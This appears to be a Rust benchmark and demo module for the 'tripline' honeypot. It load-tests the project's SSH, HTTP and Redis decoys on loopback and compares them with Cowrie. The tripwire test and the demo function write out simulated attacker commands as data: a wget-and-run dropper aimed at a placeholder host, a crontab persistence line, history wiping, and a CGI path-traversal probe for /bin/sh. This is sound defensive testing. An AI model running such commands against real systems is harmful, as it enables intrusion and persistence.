//! `tripline bench honeypot`: the SSH honeypot's numbers, with a load generator of the
//! project's own (russh's client) on loopback against `tripline run`:
//!
//! * handshakes + failed logins per second: `--connections` clients in a loop, each connecting,
//!   exchanging keys, failing one password and disconnecting, for `--seconds` (the honeypot's
//!   answer delay to a failed login set to 0 for this part: the delay is idle time, not work);
//! * the fake shell: one session with a pty sending commands one at a time, the time from
//!   the line sent to its prompt back;
//! * a login attempt → its alert committed: failed logins from new loopback addresses
//!   (127.0.1.2, .3, …), each one's time from its password request sent to the alert on the
//!   API's live stream;
//! * memory: `--sessions` sessions logged in, each with a pty and a shell, held idle; the
//!   daemon's RSS before and with them;
//! * the tripwires, in process: a dropper's lines through one session's risk, per line;
//! * the HTTP decoy: a scanner's and a brute-forcer's requests (login pages, a posted
//!   WordPress login, the admin panel with a scanner's user agent) at `--http-rate` a second
//!   on 4 kept-alive connections, open loop; latency and the daemon's CPU per request;
//! * a TCP decoy (the Redis profile): 4 clients in a loop, each connecting, sending `AUTH`
//!   with a wrong password, reading the refusal and closing, for `--seconds`.
//!
//! With `--cowrie SCRIPT` (`scripts/cowrie`: Cowrie 3.1.4 from PyPI in a venv, started on a
//! free loopback port), the same handshake loop, shell and memory measures run against
//! Cowrie in the same run, with `--cowrie-connections` clients (its server waits a second
//! after every failed password, so it needs many at once to be busy) and
//! `--cowrie-sessions` sessions held.

use crate::bench::{cpu_seconds, latencies, status_kb, temp_dir, Daemon};
use anyhow::{bail, Context, Result};
use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};
use tripline_honeypot::russh;
use tripline_honeypot::russh::client;

/// `tripline bench honeypot`'s options.
#[derive(Debug, Clone, clap::Args)]
pub struct Options {
    /// Sessions held at once for the memory measure
    #[arg(long, default_value_t = 10_000)]
    pub sessions: usize,
    /// Seconds of the handshake loop
    #[arg(long, default_value_t = 10.0)]
    pub seconds: f64,
    /// Clients in the handshake loop at once
    #[arg(long, default_value_t = 32)]
    pub connections: usize,
    /// Commands sent to the fake shell
    #[arg(long, default_value_t = 2000)]
    pub commands: usize,
    /// Failed logins timed to their alert
    #[arg(long, default_value_t = 200)]
    pub logins: usize,
    /// Requests a second at the HTTP decoy
    #[arg(long, default_value_t = 2000)]
    pub http_rate: u64,
    /// Also measure Cowrie, started by this script (`scripts/cowrie`)
    #[arg(long)]
    pub cowrie: Option<std::path::PathBuf>,
    /// Clients in Cowrie's handshake loop at once
    #[arg(long, default_value_t = 256)]
    pub cowrie_connections: usize,
    /// Sessions held at once on Cowrie for its memory measure
    #[arg(long, default_value_t = 200)]
    pub cowrie_sessions: usize,
    /// Measure an SSH honeypot already running there instead (handshakes, shell, sessions;
    /// its sessions log in as root with the password `bench`)
    #[arg(long, requires = "pid")]
    pub against: Option<SocketAddr>,
    /// The process of `--against`, for its CPU time and memory
    #[arg(long)]
    pub pid: Option<u32>,
}

struct Client;

impl client::Handler for Client {
    type Error = russh::Error;

    async fn check_server_key(
        &mut self,
        _key: &russh::keys::PublicKeyOrCertificate,
    ) -> Result<bool, Self::Error> {
        Ok(true)
    }
}

fn client_config() -> Arc<client::Config> {
    Arc::new(client::Config {
        inactivity_timeout: Some(Duration::from_secs(600)),
        ..Default::default()
    })
}

/// Connect from `from` (a loopback address) to `to`.
async fn connect(
    cfg: Arc<client::Config>,
    from: Option<std::net::IpAddr>,
    to: SocketAddr,
) -> Result<client::Handle<Client>> {
    let sock = tokio::net::TcpSocket::new_v4()?;
    if let Some(ip) = from {
        sock.bind(SocketAddr::new(ip, 0))?;
    }
    let stream = sock.connect(to).await?;
    stream.set_nodelay(true)?;
    Ok(client::connect_stream(cfg, stream, Client).await?)
}

pub fn honeypot(o: &Options) -> Result<()> {
    if let (Some(addr), Some(pid)) = (o.against, o.pid) {
        return tokio::runtime::Builder::new_multi_thread()
            .worker_threads(1)
            .enable_all()
            .build()?
            .block_on(async {
                handshakes(addr, pid, o).await?;
                shell(addr, o).await?;
                sessions(addr, pid, o).await
            });
    }
    let dir = temp_dir("honeypot")?;
    let mut result = run(&dir, o);
    if let (Ok(()), Some(script)) = (&result, &o.cowrie) {
        result = cowrie(&dir, script, o);
    }
    let _ = std::fs::remove_dir_all(&dir);
    result
}

/// The HTTP decoy under a scanner's and a brute-forcer's requests, open loop at `--http-rate`.
fn http_decoy(addr: &str, pid: u32, o: &Options) -> Result<()> {
    let get = |path: &str, ua: &str| {
        format!("GET {path} HTTP/1.1\r\nHost: {addr}\r\nUser-Agent: {ua}\r\n\r\n")
    };
    let form = "log=admin&pwd=password123&wp-submit=Log+In";
    let requests = Arc::new(vec![
        get("/", "Mozilla/5.0 zgrab/0.x"),
        get("/wp-login.php", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"),
        format!(
            "POST /wp-login.php HTTP/1.1\r\nHost: {addr}\r\nContent-Type: application/x-www-form-urlencoded\r\n\
             Content-Length: {}\r\n\r\n{form}",
            form.len()
        ),
        get("/phpmyadmin/", "Mozilla/5.0 (compatible; Nmap Scripting Engine)"),
    ]);
    crate::bench::open_loop(addr, requests.clone(), 500, 1.0, 4)?;
    let cpu0 = cpu_seconds(pid);
    let mut l = crate::bench::open_loop(addr, requests, o.http_rate, o.seconds, 4)?;
    let used = cpu_seconds(pid) - cpu0;
    println!(
        "HTTP decoy, {} requests/s planned, {:.0} achieved, {} errors: {}; daemon CPU per request {:.0} µs",
        o.http_rate,
        l.rate,
        l.errors,
        latencies(&mut l.lat),
        used * 1e6 / l.lat.len().max(1) as f64
    );
    Ok(())
}

/// The Redis decoy under a password brute force: 4 clients, a connection per attempt.
fn tcp_decoy(addr: SocketAddr, pid: u32, o: &Options) -> Result<()> {
    use std::io::{Read, Write};
    let cpu0 = cpu_seconds(pid);
    let end = Instant::now() + Duration::from_secs_f64(o.seconds);
    let t0 = Instant::now();
    let workers: Vec<_> = (0..4)
        .map(|w| {
            std::thread::spawn(move || {
                let (mut lat, mut errors) = (vec![], 0u64);
                let mut i = 0u64;
                while Instant::now() < end {
                    let t = Instant::now();
                    let r = (|| -> std::io::Result<bool> {
                        let mut s = std::net::TcpStream::connect(addr)?;
                        s.set_nodelay(true)?;
                        s.set_read_timeout(Some(Duration::from_secs(5)))?;
                        write!(s, "AUTH default pass{w}-{i}\r\n")?;
                        let mut buf = [0u8; 256];
                        let n = s.read(&mut buf)?;
                        Ok(buf[..n].starts_with(b"-WRONGPASS"))
                    })();
                    match r {
                        Ok(true) => lat.push(t.elapsed().as_secs_f64() * 1000.0),
                        _ => errors += 1,
                    }
                    i += 1;
                }
                (lat, errors)
            })
        })
        .collect();
    let (mut lat, mut errors) = (vec![], 0);
    for w in workers {
        let (l, e) = w
            .join()
            .map_err(|_| anyhow::anyhow!("a client thread panicked"))?;
        lat.extend(l);
        errors += e;
    }
    let secs = t0.elapsed().as_secs_f64();
    let used = cpu_seconds(pid) - cpu0;
    println!(
        "Redis decoy, connect + AUTH refused + close, 4 clients: {:.0}/s, {errors} errors: {}; daemon CPU per attempt {:.0} µs",
        lat.len() as f64 / secs,
        latencies(&mut lat),
        used * 1e6 / lat.len().max(1) as f64
    );
    Ok(())
}

/// The tripwires' cost per command line: a dropper's and a recon's lines through one session,
/// in process (what the `honeypot` detector does for each command).
fn tripwires() {
    use tripline_honeypot::tripwire::{SessionRisk, Tripwires};
    let tw = Tripwires::builtin();
    let lines = [
        "cd /tmp; wget http://198.51.100.23/x.sh; chmod +x x.sh; ./x.sh",
        "uname -a",
        "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6}'",
        "echo \"root:x\" | chpasswd",
        "ls -la /var/tmp",
    ];
    let n = 100_000i64;
    let mut s = SessionRisk::new();
    let t = Instant::now();
    for k in 0..n {
        // a new session every 50 lines, as bots' sessions are short
        if k % 50 == 0 {
            s = SessionRisk::new();
        }
        std::hint::black_box(s.observe(tw, k * 1_000_000, lines[k as usize % lines.len()]));
    }
    println!(
        "tripwires, in process: {:.2} µs per command line ({n} lines of 5 kinds)",
        t.elapsed().as_secs_f64() * 1e6 / n as f64
    );
}

/// The password the bench's sessions log in with (every other fails).
const PASSWORD: &str = "bench";

/// The handshake loop, the shell and the memory measure against Cowrie, started by `script`
/// on a free loopback port, run from a directory in `dir` as an unprivileged user when root.
fn cowrie(dir: &std::path::Path, script: &std::path::Path, o: &Options) -> Result<()> {
    let port = std::net::TcpListener::bind("127.0.0.1:0")?
        .local_addr()?
        .port();
    let venv = std::env::var_os("COWRIE_VENV").unwrap_or_else(|| "/tmp/cowrie-venv".into());
    let run = dir.join("cowrie");
    println!("cowrie: starting with {} …", script.display());
    let out = std::process::Command::new(script)
        .arg(&venv)
        .arg(&run)
        .arg(port.to_string())
        .env("COWRIE_TEST_PASSWORD", PASSWORD)
        .stderr(std::process::Stdio::inherit())
        .output()
        .with_context(|| format!("running {}", script.display()))?;
    if !out.status.success() {
        bail!("{} failed: {}", script.display(), out.status);
    }
    let pid: u32 = String::from_utf8_lossy(&out.stdout)
        .trim()
        .parse()
        .context("the script printed no PID")?;
    let addr: SocketAddr = format!("127.0.0.1:{port}").parse()?;
    let result = (|| -> Result<()> {
        let rt = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(1)
            .enable_all()
            .build()?;
        println!(
            "cowrie idle rss: {:.1} MB",
            status_kb(&pid.to_string(), "VmRSS") as f64 / 1024.0
        );
        let c = Options {
            connections: o.cowrie_connections,
            sessions: o.cowrie_sessions,
            commands: o.commands.min(500),
            ..o.clone()
        };
        rt.block_on(async {
            print!("cowrie: ");
            handshakes(addr, pid, &c).await?;
            print!("cowrie: ");
            shell(addr, &c).await?;
            print!("cowrie: ");
            sessions(addr, pid, &c).await
        })
    })();
    // SIGTERM: twistd shuts down within two seconds
    let _ = std::process::Command::new("kill")
        .arg(pid.to_string())
        .status();
    std::thread::sleep(Duration::from_secs(2));
    if result.is_err() {
        // what Cowrie said about it
        let log =
            std::fs::read_to_string(run.join("var/log/cowrie/cowrie.out")).unwrap_or_default();
        let lines: Vec<&str> = log.lines().collect();
        eprintln!(
            "cowrie's log, last lines:\n{}",
            lines[lines.len().saturating_sub(30)..].join("\n")
        );
    }
    result
}

fn run(dir: &std::path::Path, o: &Options) -> Result<()> {
    let log = dir.join("auth.log");
    std::fs::write(&log, "")?;
    // every login accepted but the password "wrong": the loop fails on purpose, the sessions get in
    let extra = format!(
        "[detect]\nignore_self = false\n[honeypot.ssh]\nenabled = true\nbind = \"127.0.0.1:0\"\n\
         credentials = [\"*:bench\"]\nauth_delay_ms = 0\nmax_connections = {}\n\
         max_connections_per_ip = {}\n[honeypot.http]\nenabled = true\nbind = \"127.0.0.1:0\"\n\
         [[honeypot.tcp]]\nbind = \"127.0.0.1:0\"\nprofile = \"redis\"\nmax_connections_per_ip = 1000\n",
        o.sessions + 1000,
        o.sessions + 1000
    );
    let cfg = crate::bench::daemon_config(dir, &log, &dir.join("hp.db"), &extra)?;
    let d = Daemon::start(&cfg)?;
    let result = (|| -> Result<()> {
        let addr: SocketAddr = d
            .ready_field("honeypot_ssh=")
            .context("no honeypot address in the ready line")?
            .parse()?;
        let api = d
            .ready_field("api=http://")
            .context("no API address in the ready line")?
            .to_owned();
        std::thread::sleep(Duration::from_millis(500));
        let idle = status_kb(&d.pid.to_string(), "VmRSS");
        println!("idle rss: {:.1} MB", idle as f64 / 1024.0);
        let rt = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(1)
            .enable_all()
            .build()?;
        rt.block_on(async {
            handshakes(addr, d.pid, o).await?;
            shell(addr, o).await?;
            Ok::<_, anyhow::Error>(())
        })?;
        logins(&rt, addr, &api, dir, o)?;
        let http = d
            .ready_field("honeypot_http=http://")
            .context("no HTTP decoy address in the ready line")?
            .to_owned();
        http_decoy(&http, d.pid, o)?;
        let redis = d
            .ready_field("honeypot_tcp=")
            .context("no TCP decoy address in the ready line")?
            .parse()?;
        tcp_decoy(redis, d.pid, o)?;
        rt.block_on(sessions(addr, d.pid, o))?;
        tripwires();
        Ok(())
    })();
    let _ = d.stop();
    result
}

async fn handshakes(addr: SocketAddr, pid: u32, o: &Options) -> Result<()> {
    let (daemon0, me0) = (cpu_seconds(pid), cpu_seconds(std::process::id()));
    let cfg = client_config();
    let done = Arc::new(AtomicU64::new(0));
    let errors = Arc::new(AtomicU64::new(0));
    let end = Instant::now() + Duration::from_secs_f64(o.seconds);
    let t0 = Instant::now();
    let mut tasks = vec![];
    for _ in 0..o.connections {
        let (cfg, done, errors) = (cfg.clone(), done.clone(), errors.clone());
        tasks.push(tokio::spawn(async move {
            while Instant::now() < end {
                let r = async {
                    let mut h = connect(cfg.clone(), None, addr).await?;
                    let ok = h.authenticate_password("root", "wrong").await?.success();
                    let _ = h
                        .disconnect(russh::Disconnect::ByApplication, "", "en")
                        .await;
                    anyhow::ensure!(!ok, "a wrong password got in");
                    Ok::<_, anyhow::Error>(())
                }
                .await;
                match r {
                    Ok(()) => done.fetch_add(1, Ordering::Relaxed),
                    Err(_) => errors.fetch_add(1, Ordering::Relaxed),
                };
            }
        }));
    }
    for t in tasks {
        let _ = t.await;
    }
    let secs = t0.elapsed().as_secs_f64();
    let n = done.load(Ordering::Relaxed);
    let per = |s: f64| s * 1e6 / n.max(1) as f64;
    println!(
        "handshakes + failed logins: {:.0}/s ({n} in {secs:.1} s, {} connections, {} errors); CPU per handshake: daemon {:.0} µs, load generator {:.0} µs",
        n as f64 / secs,
        o.connections,
        errors.load(Ordering::Relaxed),
        per(cpu_seconds(pid) - daemon0),
        per(cpu_seconds(std::process::id()) - me0),
    );
    Ok(())
}

/// Reads a channel until `prompt` shows: what it read.
async fn until(ch: &mut russh::Channel<client::Msg>, prompt: &[u8]) -> Result<Vec<u8>> {
    let mut got = vec![];
    while !got.windows(prompt.len()).any(|w| w == prompt) {
        match tokio::time::timeout(Duration::from_secs(10), ch.wait()).await {
            Ok(Some(russh::ChannelMsg::Data { data })) => got.extend_from_slice(&data),
            Ok(Some(_)) => {}
            Ok(None) => bail!("the channel closed"),
            Err(_) => bail!("no prompt within 10 s"),
        }
    }
    Ok(got)
}

async fn open_shell(
    cfg: Arc<client::Config>,
    from: Option<std::net::IpAddr>,
    addr: SocketAddr,
) -> Result<(client::Handle<Client>, russh::Channel<client::Msg>)> {
    let mut h = connect(cfg, from, addr).await?;
    anyhow::ensure!(
        h.authenticate_password("root", PASSWORD).await?.success(),
        "the bench password was refused"
    );
    let ch = h.channel_open_session().await?;
    ch.request_pty(false, "xterm", 80, 24, 0, 0, &[]).await?;
    ch.request_shell(false).await?;
    Ok((h, ch))
}

async fn shell(addr: SocketAddr, o: &Options) -> Result<()> {
    let (_h, mut ch) = open_shell(client_config(), None, addr).await?;
    until(&mut ch, b"# ").await?;
    let cmds = [
        "echo hello",
        "uname -a",
        "ls -la /",
        "cat /etc/passwd",
        "id",
        "ps aux | head -5",
        "cd /tmp && pwd",
    ];
    let mut lat = Vec::with_capacity(o.commands);
    for i in 0..o.commands {
        let t = Instant::now();
        ch.data_bytes(format!("{}\r", cmds[i % cmds.len()]).into_bytes())
            .await?;
        until(&mut ch, b"# ").await?;
        lat.push(t.elapsed().as_secs_f64() * 1000.0);
    }
    println!(
        "fake shell, command sent → prompt back ({} commands, one session): {}",
        o.commands,
        latencies(&mut lat)
    );
    Ok(())
}

/// A failed login from each of `--logins` new loopback addresses; the time from its password
/// request sent to the `honeypot.login` alert for that address on the API's live stream.
fn logins(
    rt: &tokio::runtime::Runtime,
    addr: SocketAddr,
    api: &str,
    dir: &std::path::Path,
    o: &Options,
) -> Result<()> {
    use std::io::Write;
    let token = std::fs::read_to_string(tripline_api::token::path(dir)).context("the API token")?;
    // the live stream, as an open dashboard holds it: each line time-stamped on arrival
    let mut sse = std::net::TcpStream::connect(api)?;
    write!(
        sse,
        "GET /api/v1/stream HTTP/1.1\r\nHost: {api}\r\nAuthorization: Bearer {}\r\n\r\n",
        token.trim()
    )?;
    let rx = crate::bench::stamped_lines(sse.try_clone()?);
    std::thread::sleep(Duration::from_millis(300));
    let cfg = client_config();
    let mut lat = vec![];
    for i in 0..o.logins {
        let ip: std::net::IpAddr = format!("127.0.{}.{}", 1 + i / 250, 2 + i % 250).parse()?;
        let sent = rt.block_on(async {
            let mut h = connect(cfg.clone(), Some(ip), addr).await?;
            // from the attempt sent (its alert can be out before the refusal is read)
            let t = Instant::now();
            let ok = h.authenticate_password("admin", "nope").await?.success();
            anyhow::ensure!(!ok, "a wrong password got in");
            let _ = h
                .disconnect(russh::Disconnect::ByApplication, "", "en")
                .await;
            Ok::<_, anyhow::Error>(t)
        })?;
        // its login's alert (a connection alone may raise another rule's first)
        let want = format!("\"src_ip\":\"{ip}\"");
        let rule = "\"rule\":\"honeypot.login\"";
        let end = Instant::now() + Duration::from_secs(5);
        loop {
            let left = end.saturating_duration_since(Instant::now());
            match rx.recv_timeout(left) {
                Ok((t, line)) if line.contains(&want) && line.contains(rule) => {
                    lat.push(t.saturating_duration_since(sent).as_secs_f64() * 1000.0);
                    break;
                }
                Ok(_) => {}
                Err(_) => bail!("no alert for {ip} within 5 s"),
            }
        }
    }
    println!(
        "failed login sent → its alert on the live stream ({} new addresses): {}",
        o.logins,
        latencies(&mut lat)
    );
    Ok(())
}

async fn sessions(addr: SocketAddr, pid: u32, o: &Options) -> Result<()> {
    let before = status_kb(&pid.to_string(), "VmRSS");
    let cfg = client_config();
    let t0 = Instant::now();
    let mut held = Vec::with_capacity(o.sessions);
    let mut tasks = tokio::task::JoinSet::new();
    let mut next = 0usize;
    // 64 logins at a time until all are held
    while held.len() < o.sessions {
        while tasks.len() < 64 && next < o.sessions {
            let ip: std::net::IpAddr =
                format!("127.1.{}.{}", next / 250, 1 + next % 250).parse()?;
            let cfg = cfg.clone();
            tasks.spawn(async move {
                let (h, mut ch) = open_shell(cfg, Some(ip), addr).await?;
                until(&mut ch, b"# ").await?;
                Ok::<_, anyhow::Error>((h, ch))
            });
            next += 1;
        }
        match tasks.join_next().await {
            Some(Ok(Ok(s))) => held.push(s),
            Some(Ok(Err(e))) => bail!("session {}: {e}", held.len()),
            Some(Err(e)) => bail!("session task: {e}"),
            None => break,
        }
    }
    let opened = t0.elapsed().as_secs_f64();
    tokio::time::sleep(Duration::from_secs(2)).await;
    let with = status_kb(&pid.to_string(), "VmRSS");
    println!(
        "{} sessions logged in with a pty and a shell, held idle (opened in {opened:.1} s): daemon rss {:.1} MB → {:.1} MB (+{:.1} KB per session)",
        held.len(),
        before as f64 / 1024.0,
        with as f64 / 1024.0,
        (with as f64 - before as f64) / held.len().max(1) as f64
    );
    drop(held);
    Ok(())
}

/// What `tripline demo` does to the honeypots: on the SSH decoy at `ssh`, a wrong password
/// then `root`/`password` (what the demo accepts), and a dropper's commands run one `exec` at
/// a time; on the HTTP decoy at `http`, a scanner's probe and an exploit. The fetches asked
/// for are recorded, never made.
pub fn demo_attack(ssh: SocketAddr, http: SocketAddr) -> Result<()> {
    use std::io::{Read, Write};
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()?;
    rt.block_on(async {
        let cfg = client_config();
        let mut h = connect(cfg.clone(), None, ssh).await?;
        anyhow::ensure!(
            !h.authenticate_password("admin", "admin").await?.success(),
            "a wrong password got in"
        );
        anyhow::ensure!(
            h.authenticate_password("root", "password").await?.success(),
            "the demo's password was refused"
        );
        for cmd in [
            "uname -a; cat /proc/cpuinfo | grep name | head -1",
            "cd /tmp && wget -q http://198.51.100.23/bins/x86 -O .x && chmod +x .x && ./.x",
            "(crontab -l; echo '*/5 * * * * /tmp/.x') | crontab -",
            "unset HISTFILE; history -c",
        ] {
            let mut ch = h.channel_open_session().await?;
            ch.exec(true, cmd).await?;
            // until the command's channel closes
            while tokio::time::timeout(Duration::from_secs(5), ch.wait())
                .await
                .ok()
                .flatten()
                .is_some()
            {}
        }
        let _ = h
            .disconnect(russh::Disconnect::ByApplication, "", "en")
            .await;
        Ok::<_, anyhow::Error>(())
    })?;
    for target in ["/.env", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"] {
        let mut s = std::net::TcpStream::connect(http)?;
        s.set_read_timeout(Some(Duration::from_secs(5)))?;
        write!(
            s,
            "GET {target} HTTP/1.1\r\nHost: {http}\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\nConnection: close\r\n\r\n"
        )?;
        let mut reply = vec![];
        let _ = s.read_to_end(&mut reply);
    }
    Ok(())
}
